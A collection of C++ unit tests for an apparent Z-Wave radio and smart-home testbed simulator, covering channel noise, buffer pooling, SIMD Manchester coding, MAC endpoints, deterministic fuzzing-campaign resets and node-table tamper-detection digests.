  EXPECT_GT(corrupted, 40);  // 1% per bit over ~8600 bits: virtually always
}

TEST(MediumTest, BroadcastReachesMultipleReceivers) {
  zc::EventScheduler scheduler;
  RfMedium medium(scheduler, zc::Rng(1));
  Transceiver a(medium, at("a", 0));
  Transceiver b(medium, at("b", 3));
  Transceiver c(medium, at("c", 4));
  int received = 0;
  b.set_bits_handler([&](const BitStream&, double) { ++received; });
  c.set_bits_handler([&](const BitStream&, double) { ++received; });
  a.transmit(zc::Bytes{0x01});
  scheduler.run_all();
  EXPECT_EQ(received, 2);
  EXPECT_EQ(medium.transmissions(), 1u);
}

// A marginal link (inside the fade ramp) + bit-flip noise exercises every
// random decision the channel makes: drop per link, flip per bit.
std::vector<BitStream> run_lossy_trace(std::uint64_t seed) {
  zc::EventScheduler scheduler;
  ChannelModel noisy;
  noisy.bit_flip_rate = 0.003;
  RfMedium medium(scheduler, zc::Rng(seed), noisy);
  Transceiver a(medium, at("a", 0));
  Transceiver b(medium, at("b", 250.0));  // headroom ~2.5 dB of the 6 dB ramp

  std::vector<BitStream> trace;
  b.set_bits_handler([&](const BitStream& bits, double) { trace.push_back(bits); });
  for (int i = 0; i < 60; ++i) {
    a.transmit(zc::Bytes{static_cast<std::uint8_t>(i), 0xA5, 0x5A});
  }
  scheduler.run_all();
  return trace;
}

TEST(MediumTest, SameSeedYieldsIdenticalDeliveryTrace) {
  const auto first = run_lossy_trace(42);
  const auto second = run_lossy_trace(42);
  EXPECT_FALSE(first.empty());
  EXPECT_LT(first.size(), 60u);  // the marginal link genuinely drops frames
  EXPECT_EQ(first, second);
}

TEST(MediumTest, DifferentSeedsYieldDifferentTraces) {
  EXPECT_NE(run_lossy_trace(42), run_lossy_trace(1337));
}

TEST(MediumTest, DetachedTransceiverStopsReceiving) {
  zc::EventScheduler scheduler;
  RfMedium medium(scheduler, zc::Rng(1));
  Transceiver a(medium, at("a", 0));
  int received = 0;
  {
    Transceiver b(medium, at("b", 5));
    b.set_bits_handler([&](const BitStream&, double) { ++received; });
    a.transmit(zc::Bytes{0x01});
    scheduler.run_all();
    EXPECT_EQ(received, 1);
  }
  a.transmit(zc::Bytes{0x02});
  scheduler.run_all();
  EXPECT_EQ(received, 1);
}

}  // namespace
}  // namespace zc::radio
