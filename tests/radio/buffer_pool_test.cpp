#include "radio/buffer_pool.h"

#include <gtest/gtest.h>

#include <memory>

#include "radio/medium.h"
#include "radio/phy.h"

namespace zc::radio {
namespace {

RadioConfig at(const char* label, double x) {
  return RadioConfig{label, zc::zwave::RfRegion::kUs908, x, 0.0, 0.0};
}

TEST(BitBufferPoolTest, AcquireReusesReleasedSlot) {
  BitBufferPool pool;
  {
    auto lease = pool.acquire();
    lease.bits().assign(64, 1);
    EXPECT_EQ(pool.size(), 1u);
    EXPECT_EQ(pool.idle(), 0u);
  }
  // Last lease dropped: slot back on the free list, buffer cleared.
  EXPECT_EQ(pool.idle(), 1u);
  auto again = pool.acquire();
  EXPECT_EQ(pool.size(), 1u);  // no new slot
  EXPECT_TRUE(again.bits().empty());
  EXPECT_GE(again.bits().capacity(), 64u);  // capacity survives recycling
  EXPECT_EQ(pool.reuses(), 1u);
  EXPECT_EQ(pool.acquires(), 2u);
}

TEST(BitBufferPoolTest, CopySharesMoveTransfers) {
  BitBufferPool pool;
  auto a = pool.acquire();
  EXPECT_EQ(a.ref_count(), 1u);
  auto b = a;  // copy: shared slot
  EXPECT_EQ(a.ref_count(), 2u);
  a.bits().push_back(1);
  EXPECT_EQ(b.bits().size(), 1u);  // same underlying buffer

  auto c = std::move(b);  // move: count unchanged, b emptied
  EXPECT_EQ(c.ref_count(), 2u);
  EXPECT_FALSE(b);  // NOLINT(bugprone-use-after-move): moved-from is empty
  a.reset();
  EXPECT_EQ(c.ref_count(), 1u);
  EXPECT_EQ(pool.idle(), 0u);  // still held by c
  c.reset();
  EXPECT_EQ(pool.idle(), 1u);
}

TEST(BitBufferPoolTest, CleanChannelFanOutSharesOneBuffer) {
  zc::EventScheduler scheduler;
  RfMedium medium(scheduler, zc::Rng(7));  // default model: no bit flips
  Transceiver sender(medium, at("tx", 0));
  Transceiver rx1(medium, at("rx1", 3));
  Transceiver rx2(medium, at("rx2", 5));

  BitStream seen1, seen2;
  rx1.set_bits_handler([&](const BitStream& bits, double) { seen1 = bits; });
  rx2.set_bits_handler([&](const BitStream& bits, double) { seen2 = bits; });
  sender.transmit(zc::Bytes{0xAA, 0x55, 0x0F});
  scheduler.run_all();

  // Both receivers saw the identical line coding, served from a single
  // pooled slot (the clean path aliases the sender's lease; a per-receiver
  // copy would have grown the arena).
  EXPECT_EQ(seen1, seen2);
  EXPECT_FALSE(seen1.empty());
  EXPECT_EQ(medium.pool().size(), 1u);
  EXPECT_EQ(medium.pool().idle(), 1u);  // all leases returned after delivery
}

TEST(BitBufferPoolTest, SteadyStateTransmitsDoNotGrowArena) {
  zc::EventScheduler scheduler;
  RfMedium medium(scheduler, zc::Rng(7));
  Transceiver sender(medium, at("tx", 0));
  Transceiver receiver(medium, at("rx", 4));
  int received = 0;
  receiver.set_bits_handler([&](const BitStream&, double) { ++received; });

  for (int i = 0; i < 100; ++i) {
    sender.transmit(zc::Bytes{static_cast<std::uint8_t>(i), 0x01, 0x02});
    scheduler.run_all();
  }
  EXPECT_EQ(received, 100);
  EXPECT_EQ(medium.pool().size(), 1u);  // one warm slot serves every frame
  EXPECT_EQ(medium.pool().reuses(), 99u);
}

TEST(BitBufferPoolTest, DetachedEndpointMissesInFlightDelivery) {
  zc::EventScheduler scheduler;
  RfMedium medium(scheduler, zc::Rng(7));
  Transceiver sender(medium, at("tx", 0));
  auto receiver = std::make_unique<Transceiver>(medium, at("rx", 4));
  int received = 0;
  receiver->set_bits_handler([&](const BitStream&, double) { ++received; });

  // The delivery is airtime-delayed; destroying the receiver between the
  // broadcast and the fire time must neither crash nor deliver.
  sender.transmit(zc::Bytes{0x01, 0x02, 0x03});
  EXPECT_TRUE(medium.is_attached(receiver.get()));
  receiver.reset();
  scheduler.run_all();
  EXPECT_EQ(received, 0);
  // The in-flight lease was still returned: nothing leaked out of the pool.
  EXPECT_EQ(medium.pool().idle(), medium.pool().size());
}

TEST(BitBufferPoolTest, DetachMidFlightDoesNotObserveRecycledBuffer) {
  zc::EventScheduler scheduler;
  RfMedium medium(scheduler, zc::Rng(7));
  Transceiver sender(medium, at("tx", 0));
  auto doomed = std::make_unique<Transceiver>(medium, at("doomed", 4));
  Transceiver survivor(medium, at("survivor", 6));

  BitStream doomed_saw;
  doomed->set_bits_handler([&](const BitStream& bits, double) { doomed_saw = bits; });
  int survivor_frames = 0;
  survivor.set_bits_handler([&](const BitStream&, double) { ++survivor_frames; });

  // Queue a delivery toward both, detach one endpoint, then immediately
  // push more traffic through the (recycled) pool slots. The detached
  // endpoint's pending delivery must be skipped — if it fired against the
  // recycled buffer it would observe the *second* frame's bits.
  sender.transmit(zc::Bytes{0x11, 0x22, 0x33});
  doomed.reset();
  scheduler.run_all();
  sender.transmit(zc::Bytes{0x44, 0x55, 0x66});
  scheduler.run_all();

  EXPECT_TRUE(doomed_saw.empty());
  EXPECT_EQ(survivor_frames, 2);
  EXPECT_EQ(medium.pool().idle(), medium.pool().size());
}

}  // namespace
}  // namespace zc::radio
