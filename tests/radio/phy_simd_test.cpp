// Dispatch-equivalence suite for the batch PHY symbol kernels.
//
// Every Isa the host can run must be byte-for-byte identical to the scalar
// reference on every input: valid frames of all hot-path sizes, invalid
// Manchester pairs (00/11), arbitrary non-0/1 garbage line levels, and
// transmissions with torn preambles. The reference semantics are "pair
// invalid iff first == second (full byte equality), bit = (first == 1)" —
// the wide paths must preserve them exactly, not just on clean 0/1 inputs.
#include "radio/phy_simd.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

#include "common/cpu.h"
#include "common/rng.h"
#include "radio/phy.h"

namespace zc::radio {
namespace {

std::vector<simd::Isa> runnable_isas() {
  std::vector<simd::Isa> isas = {simd::Isa::kScalar};
#if defined(__BYTE_ORDER__) && __BYTE_ORDER__ == __ORDER_LITTLE_ENDIAN__
  isas.push_back(simd::Isa::kWide64);
#endif
  if (cpu::detect().sse2) isas.push_back(simd::Isa::kSse2);
  return isas;
}

// Independent bit-by-bit reference, deliberately not sharing code with any
// shipped path: encode from first principles (MSB-first, 1 -> 10, 0 -> 01).
std::vector<std::uint8_t> reference_encode(const Bytes& frame) {
  std::vector<std::uint8_t> line;
  for (std::uint8_t byte : frame) {
    for (int bit = 7; bit >= 0; --bit) {
      const bool one = (byte >> bit) & 1;
      line.push_back(one ? 1 : 0);
      line.push_back(one ? 0 : 1);
    }
  }
  return line;
}

// Reference decode with the exact documented semantics, over arbitrary
// (not just 0/1) line levels.
int reference_decode_byte(const std::uint8_t* line) {
  int value = 0;
  for (int pair = 0; pair < 8; ++pair) {
    const std::uint8_t first = line[2 * pair];
    const std::uint8_t second = line[2 * pair + 1];
    if (first == second) return -1;
    value = (value << 1) | (first == 1 ? 1 : 0);
  }
  return value;
}

TEST(PhySimdDispatch, ActiveIsaHonorsForcePortable) {
  // Whatever the host picks by default, a live ScopedForcePortable must
  // drop it to the scalar reference.
  cpu::ScopedForcePortable portable;
  EXPECT_EQ(simd::active_isa(), simd::Isa::kScalar);
  EXPECT_STREQ(simd::isa_name(simd::active_isa()), "scalar");
}

TEST(PhySimdDispatch, IsaNamesAreDistinct) {
  EXPECT_STRNE(simd::isa_name(simd::Isa::kScalar), simd::isa_name(simd::Isa::kWide64));
  EXPECT_STRNE(simd::isa_name(simd::Isa::kWide64), simd::isa_name(simd::Isa::kSse2));
}

TEST(PhySimdEquivalence, EncodeMatchesReferenceAllSizes) {
  Rng rng(0xE47C0DE);
  for (std::size_t size = 1; size <= 64; ++size) {
    const Bytes frame = rng.bytes(size);
    const auto expected = reference_encode(frame);
    for (simd::Isa isa : runnable_isas()) {
      std::vector<std::uint8_t> line(frame.size() * 16, 0xEE);
      simd::manchester_encode_bytes(isa, frame.data(), frame.size(), line.data());
      EXPECT_EQ(line, expected) << "size " << size << " isa " << simd::isa_name(isa);
    }
  }
}

TEST(PhySimdEquivalence, DecodeValidFramesAllSizes) {
  Rng rng(0xDEC0DE);
  for (std::size_t size = 1; size <= 64; ++size) {
    const Bytes frame = rng.bytes(size);
    const auto line = reference_encode(frame);
    for (simd::Isa isa : runnable_isas()) {
      Bytes decoded(size, 0xEE);
      const std::size_t n =
          simd::manchester_decode_bytes(isa, line.data(), size, decoded.data());
      EXPECT_EQ(n, size) << "isa " << simd::isa_name(isa);
      EXPECT_EQ(decoded, frame) << "size " << size << " isa " << simd::isa_name(isa);
    }
  }
}

TEST(PhySimdEquivalence, DecodeByteMatchesReferenceOnGarbage) {
  // Arbitrary bytes as line levels: pairs are invalid iff the two bytes are
  // equal (whatever the value), and a "1" line bit means exactly 1 — e.g.
  // (7, 7) is invalid, (7, 3) decodes as bit 0, (1, 200) as bit 1.
  Rng rng(0x6A4BA6E);
  for (int trial = 0; trial < 2000; ++trial) {
    std::uint8_t line[16];
    for (auto& level : line) {
      // Bias toward small values so valid/invalid/garbage all occur often.
      level = (trial % 3 == 0) ? rng.next_byte()
                               : static_cast<std::uint8_t>(rng.next_byte() % 3);
    }
    const int expected = reference_decode_byte(line);
    for (simd::Isa isa : runnable_isas()) {
      EXPECT_EQ(simd::manchester_decode_byte(isa, line), expected)
          << "trial " << trial << " isa " << simd::isa_name(isa);
    }
  }
}

TEST(PhySimdEquivalence, BatchDecodeStopsAtFirstInvalidPair) {
  Rng rng(0xBAD5E6);
  for (int trial = 0; trial < 200; ++trial) {
    const std::size_t size = 1 + static_cast<std::size_t>(rng.uniform(0, 63));
    const Bytes frame = rng.bytes(size);
    auto line = reference_encode(frame);
    // Tear one random pair into 00 or 11.
    const std::size_t bad_pair = static_cast<std::size_t>(rng.uniform(0, size * 8 - 1));
    const std::uint8_t level = rng.chance(0.5) ? 1 : 0;
    line[2 * bad_pair] = level;
    line[2 * bad_pair + 1] = level;
    const std::size_t expected_bytes = bad_pair / 8;  // bytes before the tear
    for (simd::Isa isa : runnable_isas()) {
      Bytes decoded(size, 0xEE);
      const std::size_t n =
          simd::manchester_decode_bytes(isa, line.data(), size, decoded.data());
      ASSERT_EQ(n, expected_bytes) << "trial " << trial << " isa " << simd::isa_name(isa);
      EXPECT_TRUE(std::equal(decoded.begin(), decoded.begin() + static_cast<long>(n),
                             frame.begin()))
          << "prefix mismatch, isa " << simd::isa_name(isa);
    }
  }
}

TEST(PhySimdEquivalence, FullTransmissionDispatchedVsPortable) {
  // The shipped entry points (preamble/SOF scan + batch body decode) must
  // produce identical bytes whether dispatch picks a wide path or the
  // scalar fallback.
  Rng rng(0x7A4);
  for (std::size_t size = 1; size <= 64; ++size) {
    const Bytes frame = rng.bytes(size);
    BitStream bits_fast;
    encode_transmission_into(frame, bits_fast);

    BitStream bits_portable;
    Bytes decoded_portable;
    std::string error_portable;
    {
      cpu::ScopedForcePortable portable;
      encode_transmission_into(frame, bits_portable);
      auto result = decode_transmission(bits_fast);
      if (result.ok()) {
        decoded_portable = result.value();
      } else {
        error_portable = result.error().message;
      }
    }
    EXPECT_EQ(bits_fast, bits_portable) << "encode diverged at size " << size;

    auto result_fast = decode_transmission(bits_fast);
    ASSERT_TRUE(result_fast.ok()) << result_fast.error().message;
    EXPECT_TRUE(error_portable.empty()) << error_portable;
    EXPECT_EQ(result_fast.value(), frame);
    EXPECT_EQ(result_fast.value(), decoded_portable);
  }
}

TEST(PhySimdEquivalence, TornPreamblesIdenticalAcrossBackends) {
  // Truncate the front of a transmission at every bit offset through the
  // preamble and into the body: both backends must agree on success or on
  // the exact error.
  Rng rng(0x70A4);
  const Bytes frame = rng.bytes(12);
  BitStream bits;
  encode_transmission_into(frame, bits);
  for (std::size_t cut = 1; cut < (kPreambleLength + 2) * 16; cut += 3) {
    const BitStream torn(bits.begin() + static_cast<long>(cut), bits.end());
    auto fast = decode_transmission(torn);
    cpu::ScopedForcePortable portable;
    auto slow = decode_transmission(torn);
    ASSERT_EQ(fast.ok(), slow.ok()) << "cut " << cut;
    if (fast.ok()) {
      EXPECT_EQ(fast.value(), slow.value()) << "cut " << cut;
    } else {
      EXPECT_EQ(fast.error().message, slow.error().message) << "cut " << cut;
    }
  }
}

TEST(PhySimdEquivalence, SymbolTableMatchesReference) {
  const auto& rows = simd::symbol_rows();
  for (unsigned byte = 0; byte < 256; ++byte) {
    const auto expected = reference_encode({static_cast<std::uint8_t>(byte)});
    for (int i = 0; i < 16; ++i) {
      ASSERT_EQ(rows[byte][i], expected[static_cast<std::size_t>(i)]) << "byte " << byte;
    }
  }
}

}  // namespace
}  // namespace zc::radio
