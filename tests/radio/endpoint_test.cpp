#include "radio/endpoint.h"

#include <gtest/gtest.h>

namespace zc::radio {
namespace {

RadioConfig at(const char* label, double x) {
  return RadioConfig{label, zc::zwave::RfRegion::kUs908, x, 0.0, 0.0};
}

zc::zwave::MacFrame sample_frame() {
  zc::zwave::AppPayload app;
  app.cmd_class = 0x20;
  app.command = 0x02;
  return zc::zwave::make_singlecast(0xE7DE3F3D, 0x02, 0x01, app, 3, false);
}

TEST(EndpointTest, SendsAndReceivesFrames) {
  zc::EventScheduler scheduler;
  RfMedium medium(scheduler, zc::Rng(2));
  MacEndpoint a(medium, at("a", 0));
  MacEndpoint b(medium, at("b", 5));

  std::vector<zc::zwave::MacFrame> received;
  b.set_frame_handler([&](const zc::zwave::MacFrame& frame, double) {
    received.push_back(frame);
  });
  EXPECT_TRUE(a.send(sample_frame()));
  scheduler.run_all();
  ASSERT_EQ(received.size(), 1u);
  EXPECT_EQ(received[0].home_id, 0xE7DE3F3Du);
  EXPECT_EQ(b.frames_ok(), 1u);
  EXPECT_EQ(b.frames_dropped(), 0u);
}

TEST(EndpointTest, RefusesOversizedFrame) {
  zc::EventScheduler scheduler;
  RfMedium medium(scheduler, zc::Rng(2));
  MacEndpoint a(medium, at("a", 0));
  zc::zwave::MacFrame frame = sample_frame();
  frame.payload = zc::Bytes(60, 0xAA);
  EXPECT_FALSE(a.send(frame));
  EXPECT_EQ(a.radio().frames_sent(), 0u);
}

TEST(EndpointTest, RawInjectionOfBrokenFrameIsDropped) {
  zc::EventScheduler scheduler;
  RfMedium medium(scheduler, zc::Rng(2));
  MacEndpoint a(medium, at("a", 0));
  MacEndpoint b(medium, at("b", 5));
  int received = 0;
  b.set_frame_handler([&](const zc::zwave::MacFrame&, double) { ++received; });

  // Corrupt checksum: transmitted verbatim, rejected at the receiver MAC.
  const zc::Bytes raw = sample_frame().encode_raw(std::nullopt, 0x00);
  a.send_raw(raw);
  scheduler.run_all();
  EXPECT_EQ(received, 0);
  EXPECT_EQ(b.frames_dropped(), 1u);
}

TEST(EndpointTest, NoiseDoesNotReachHandler) {
  zc::EventScheduler scheduler;
  ChannelModel noisy;
  noisy.bit_flip_rate = 0.05;  // heavy corruption
  RfMedium medium(scheduler, zc::Rng(5), noisy);
  MacEndpoint a(medium, at("a", 0));
  MacEndpoint b(medium, at("b", 5));
  int received = 0;
  b.set_frame_handler([&](const zc::zwave::MacFrame&, double) { ++received; });
  for (int i = 0; i < 20; ++i) a.send(sample_frame());
  scheduler.run_all();
  // At 5% bit flips over >1000 bits essentially nothing survives intact.
  EXPECT_EQ(received, 0);
  EXPECT_EQ(b.frames_ok() + b.frames_dropped(), 20u);
}

}  // namespace
}  // namespace zc::radio
