#include "sim/testbed.h"

#include <gtest/gtest.h>

namespace zc::sim {
namespace {

TEST(TestbedTest, BuildsDefaultSmartHome) {
  Testbed testbed(TestbedConfig{});
  EXPECT_EQ(testbed.controller().model(), DeviceModel::kD4_AeotecZw090);
  ASSERT_NE(testbed.door_lock(), nullptr);
  ASSERT_NE(testbed.smart_switch(), nullptr);
  EXPECT_EQ(testbed.controller().node_table().size(), 3u);  // hub + lock + switch
}

TEST(TestbedTest, ControllerOnlyConfiguration) {
  TestbedConfig config;
  config.include_slaves = false;
  Testbed testbed(config);
  EXPECT_EQ(testbed.door_lock(), nullptr);
  EXPECT_EQ(testbed.controller().node_table().size(), 1u);
}

TEST(TestbedTest, S2ReportsDecryptAtController) {
  // The lock's periodic S2 battery reports must authenticate and decrypt
  // at the controller without auth failures: both halves of the real
  // X25519/CKDF/CMAC pipeline line up.
  TestbedConfig config;
  config.slave_report_interval = 5 * kSecond;
  Testbed testbed(config);
  testbed.scheduler().run_for(26 * kSecond);
  EXPECT_GE(testbed.door_lock()->reports_sent(), 4u);
  EXPECT_EQ(testbed.controller().stats().auth_failures, 0u);
  // The decapsulated inner battery reports were dispatched.
  EXPECT_TRUE(testbed.controller().stats().accepted_pairs.contains(
      {zwave::kSecurity2Class, 0x03}));
}

TEST(TestbedTest, DeterministicForSameSeed) {
  auto run = [](std::uint64_t seed) {
    TestbedConfig config;
    config.seed = seed;
    Testbed testbed(config);
    testbed.scheduler().run_for(2 * kMinute);
    return std::make_tuple(testbed.controller().stats().frames_received,
                           testbed.controller().stats().app_payloads,
                           testbed.controller().node_table().digest());
  };
  EXPECT_EQ(run(42), run(42));
  EXPECT_NE(std::get<0>(run(42)), 0u);
}

TEST(TestbedTest, RestoreNetworkRebuildsOriginalTable) {
  Testbed testbed(TestbedConfig{});
  const auto original = testbed.controller().node_table().digest();
  testbed.controller().node_table().clear();
  EXPECT_NE(testbed.controller().node_table().digest(), original);
  testbed.restore_network();
  EXPECT_EQ(testbed.controller().node_table().digest(), original);
}

TEST(TestbedTest, AttackerPlacementMatchesConfig) {
  TestbedConfig config;
  config.attacker_distance_m = 70.0;
  Testbed testbed(config);
  const auto radio = testbed.attacker_radio_config("attacker");
  EXPECT_DOUBLE_EQ(radio.x_meters, 70.0);
  EXPECT_EQ(radio.region, zwave::RfRegion::kUs908);
}

TEST(TestbedTest, EveryControllerModelBoots) {
  for (DeviceModel model : all_controller_models()) {
    TestbedConfig config;
    config.controller_model = model;
    Testbed testbed(config);
    EXPECT_EQ(testbed.controller().home_id(), controller_profile(model).home_id)
        << device_model_name(model);
    testbed.scheduler().run_for(35 * kSecond);
    EXPECT_EQ(testbed.controller().stats().auth_failures, 0u) << device_model_name(model);
  }
}

}  // namespace
}  // namespace zc::sim
