// Testbed::reset contract: a reset testbed is byte-identical to a freshly
// constructed one — same campaign packets, same findings at the same
// virtual times, same journal records, same coverage map — across device
// models, fault injection, and repeated recycling. core/parallel's
// per-worker context reuse leans on exactly this property, so these tests
// are the fence around it.
#include "sim/testbed.h"

#include <gtest/gtest.h>

#include <sstream>
#include <string>

#include "core/campaign.h"
#include "sim/coverage.h"
#include "store/journal.h"

namespace zc {
namespace {

core::CampaignConfig quick_campaign(std::uint64_t seed) {
  core::CampaignConfig config;
  config.mode = core::CampaignMode::kFull;
  config.duration = 5 * kMinute;
  config.seed = seed;
  config.loop_queue = false;
  return config;
}

/// Runs one campaign (with journal staging + coverage installed) and
/// renders everything reuse could perturb into a canonical string.
std::string campaign_fingerprint(sim::Testbed& testbed, std::uint64_t seed) {
  store::BufferedFindingSink sink;
  auto config = quick_campaign(seed);
  config.journal = &sink;

  sim::cov::CoverageMap map;
  core::CampaignResult result = [&] {
    const sim::cov::ScopedCoverage scoped(map);
    return core::Campaign(testbed, config).run();
  }();

  std::ostringstream out;
  out << "packets=" << result.test_packets << " started=" << result.started_at
      << " ended=" << result.ended_at << " inconclusive=" << result.inconclusive_tests
      << " retried=" << result.retried_injections
      << " recoveries=" << result.recovery_log.size()
      << " tx=" << testbed.medium().transmissions() << '\n';
  for (const auto& finding : result.findings) {
    out << "finding " << to_hex(finding.payload) << ' '
        << core::detection_kind_name(finding.kind) << ' ' << finding.matched_bug_id
        << ' ' << finding.detected_at << '\n';
  }
  for (const store::FindingRecord& record : sink.records()) {
    out << "record dev=" << int(record.device) << " kind=" << int(record.kind)
        << " cc=" << record.cc << " cmd=" << record.cmd << " p0=" << record.param0
        << " bug=" << record.bug_id << " at=" << record.detected_at
        << " seed=" << record.campaign_seed << " payload=" << to_hex(record.payload)
        << '\n';
  }
  std::uint64_t cov_digest = 1469598103934665603ULL;  // FNV-1a over slots
  for (std::size_t i = 0; i < sim::cov::CoverageMap::kSlots; ++i) {
    cov_digest = (cov_digest ^ map.hits(i)) * 1099511628211ULL;
  }
  out << "coverage=" << cov_digest << " edges=" << map.edges_hit() << '\n';
  return out.str();
}

sim::TestbedConfig testbed_config_for(sim::DeviceModel model, std::uint64_t seed) {
  sim::TestbedConfig config;
  config.controller_model = model;
  config.seed = seed;
  return config;
}

TEST(TestbedResetTest, ClockAndMediumRewindToConstructionState) {
  sim::Testbed testbed(testbed_config_for(sim::DeviceModel::kD4_AeotecZw090, 7));
  testbed.scheduler().run_for(2 * kMinute);
  EXPECT_GT(testbed.scheduler().now(), 0u);
  EXPECT_GT(testbed.medium().transmissions(), 0u);

  testbed.reset(testbed_config_for(sim::DeviceModel::kD4_AeotecZw090, 7));
  EXPECT_EQ(testbed.scheduler().now(), 0u);
  EXPECT_EQ(testbed.medium().transmissions(), 0u);
  EXPECT_EQ(testbed.fault_injector(), nullptr);
}

TEST(TestbedResetTest, ScheduleOnlyRunMatchesFreshConstruction) {
  const auto config = testbed_config_for(sim::DeviceModel::kD4_AeotecZw090, 42);
  auto observe = [](sim::Testbed& testbed) {
    testbed.scheduler().run_for(2 * kMinute);
    return std::make_tuple(testbed.controller().stats().frames_received,
                           testbed.controller().stats().app_payloads,
                           testbed.controller().node_table().digest(),
                           testbed.medium().transmissions());
  };

  sim::Testbed fresh(config);
  const auto expected = observe(fresh);

  // Dirty the reused instance with a different seed first so reset has
  // real state to erase, then bring it back to `config`.
  sim::Testbed reused(testbed_config_for(sim::DeviceModel::kD6_SamsungWv520, 99));
  reused.scheduler().run_for(3 * kMinute);
  reused.reset(config);
  EXPECT_EQ(observe(reused), expected);
}

TEST(TestbedResetTest, CampaignIsByteIdenticalAcrossDevices) {
  for (const sim::DeviceModel model :
       {sim::DeviceModel::kD4_AeotecZw090, sim::DeviceModel::kD6_SamsungWv520}) {
    const auto config = testbed_config_for(model, 0x2C07E12F);

    sim::Testbed fresh(config);
    const std::string expected = campaign_fingerprint(fresh, 0x2C07E12F);
    EXPECT_NE(expected.find("finding"), std::string::npos);

    sim::Testbed reused(testbed_config_for(sim::DeviceModel::kD1_ZoozZst10, 5));
    reused.scheduler().run_for(1 * kMinute);
    reused.reset(config);
    EXPECT_EQ(campaign_fingerprint(reused, 0x2C07E12F), expected)
        << sim::device_model_name(model);
  }
}

TEST(TestbedResetTest, RepeatedResetStaysIdentical) {
  // Recycling the same instance many times must not drift: pool slots and
  // the delivery arena are warm after the first run, yet every run's bytes
  // stay those of run one.
  const auto config = testbed_config_for(sim::DeviceModel::kD4_AeotecZw090, 0xA11CE);
  sim::Testbed testbed(config);
  const std::string first = campaign_fingerprint(testbed, 0xA11CE);
  for (int round = 0; round < 3; ++round) {
    testbed.reset(config);
    EXPECT_EQ(campaign_fingerprint(testbed, 0xA11CE), first) << "round " << round;
  }
}

TEST(TestbedResetTest, ArmedFaultsDoNotLeakThroughReset) {
  const auto config = testbed_config_for(sim::DeviceModel::kD4_AeotecZw090, 0xFA57);

  sim::Testbed fresh(config);
  const std::string expected = campaign_fingerprint(fresh, 0xFA57);

  // A hostile channel (periodic loss bursts) armed on the old world must
  // be fully disarmed by reset: same fingerprint as the clean run.
  sim::Testbed reused(config);
  sim::FaultPlan plan;
  plan.loss_bursts.push_back({.start = 10 * kSecond,
                              .duration = 20 * kSecond,
                              .period = kMinute,
                              .drop_probability = 0.8});
  reused.arm_faults(std::move(plan));
  reused.scheduler().run_for(2 * kMinute);
  reused.reset(config);
  EXPECT_EQ(reused.fault_injector(), nullptr);
  EXPECT_EQ(campaign_fingerprint(reused, 0xFA57), expected);
}

TEST(TestbedResetTest, ResetCanChangeComposition) {
  // reset() is a full reconfiguration, not just a rewind: the recycled
  // instance must match fresh construction of the *new* config, including
  // composition changes (extra S0 sensor, different model).
  auto target = testbed_config_for(sim::DeviceModel::kD6_SamsungWv520, 0xBEEF);
  target.include_s0_sensor = true;

  sim::Testbed fresh(target);
  const std::string expected = campaign_fingerprint(fresh, 0xBEEF);
  ASSERT_NE(fresh.s0_sensor(), nullptr);

  sim::Testbed reused(testbed_config_for(sim::DeviceModel::kD4_AeotecZw090, 1));
  EXPECT_EQ(reused.s0_sensor(), nullptr);
  reused.reset(target);
  ASSERT_NE(reused.s0_sensor(), nullptr);
  EXPECT_EQ(campaign_fingerprint(reused, 0xBEEF), expected);
}

}  // namespace
}  // namespace zc
