#include "sim/node_table.h"

#include <gtest/gtest.h>

namespace zc::sim {
namespace {

NodeRecord lock_record() {
  return NodeRecord{2, zwave::kBasicClassSlave, true, zwave::SecurityLevel::kS2, 3600,
                    "Smart Lock"};
}

TEST(NodeTableTest, UpsertAndFind) {
  NodeTable table;
  table.upsert(lock_record());
  const NodeRecord* record = table.find(2);
  ASSERT_NE(record, nullptr);
  EXPECT_EQ(record->label, "Smart Lock");
  EXPECT_EQ(table.size(), 1u);
  EXPECT_EQ(table.find(9), nullptr);
}

TEST(NodeTableTest, RemoveReportsSuccess) {
  NodeTable table;
  table.upsert(lock_record());
  EXPECT_TRUE(table.remove(2));
  EXPECT_FALSE(table.remove(2));
  EXPECT_EQ(table.size(), 0u);
}

TEST(NodeTableTest, GenerationBumpsOnEveryMutation) {
  NodeTable table;
  const auto g0 = table.generation();
  table.upsert(lock_record());
  const auto g1 = table.generation();
  EXPECT_GT(g1, g0);
  table.find_mutable(2)->wakeup_interval_s = 0;
  EXPECT_GT(table.generation(), g1);
}

TEST(NodeTableTest, DigestDetectsPropertyTampering) {
  NodeTable table;
  table.upsert(lock_record());
  const auto before = table.digest();
  // The Fig. 8 attack: lock silently becomes a routing slave.
  table.find_mutable(2)->basic_class = zwave::kBasicClassRoutingSlave;
  EXPECT_NE(table.digest(), before);
}

TEST(NodeTableTest, DigestDetectsWakeupErasure) {
  NodeTable table;
  table.upsert(lock_record());
  const auto before = table.digest();
  table.find_mutable(2)->wakeup_interval_s = 0;
  EXPECT_NE(table.digest(), before);
}

TEST(NodeTableTest, DigestDetectsMembershipChanges) {
  NodeTable table;
  table.upsert(lock_record());
  const auto before = table.digest();
  table.upsert(NodeRecord{200, zwave::kBasicClassController, true,
                          zwave::SecurityLevel::kNone, 0, "Rogue"});
  const auto with_rogue = table.digest();
  EXPECT_NE(with_rogue, before);
  table.remove(200);
  EXPECT_EQ(table.digest(), before);
}

TEST(NodeTableTest, SnapshotRestoreRoundTrip) {
  NodeTable table;
  table.upsert(lock_record());
  const auto snapshot = table.snapshot();
  const auto digest = table.digest();
  table.clear();
  EXPECT_EQ(table.size(), 0u);
  table.restore(snapshot);
  EXPECT_EQ(table.digest(), digest);
}

TEST(NodeTableTest, NodeIdsSorted) {
  NodeTable table;
  for (zwave::NodeId id : {7, 2, 200}) {
    NodeRecord record;
    record.node_id = id;
    table.upsert(record);
  }
  EXPECT_EQ(table.node_ids(), (std::vector<zwave::NodeId>{2, 7, 200}));
}

TEST(NodeTableTest, NvmRoundTrip) {
  NodeTable table;
  table.upsert(lock_record());
  table.upsert(NodeRecord{1, zwave::kBasicClassStaticController, true,
                          zwave::SecurityLevel::kS2, 0, "Primary Controller"});
  table.upsert(NodeRecord{4, zwave::kBasicClassSlave, false, zwave::SecurityLevel::kS0,
                          600, "Motion Sensor"});

  const Bytes image = table.serialize_nvm();
  const auto restored = NodeTable::deserialize_nvm(image);
  ASSERT_TRUE(restored.ok()) << restored.error().message;
  EXPECT_EQ(restored.value().digest(), table.digest());
  EXPECT_EQ(restored.value().find(4)->label, "Motion Sensor");
  EXPECT_FALSE(restored.value().find(4)->listening);
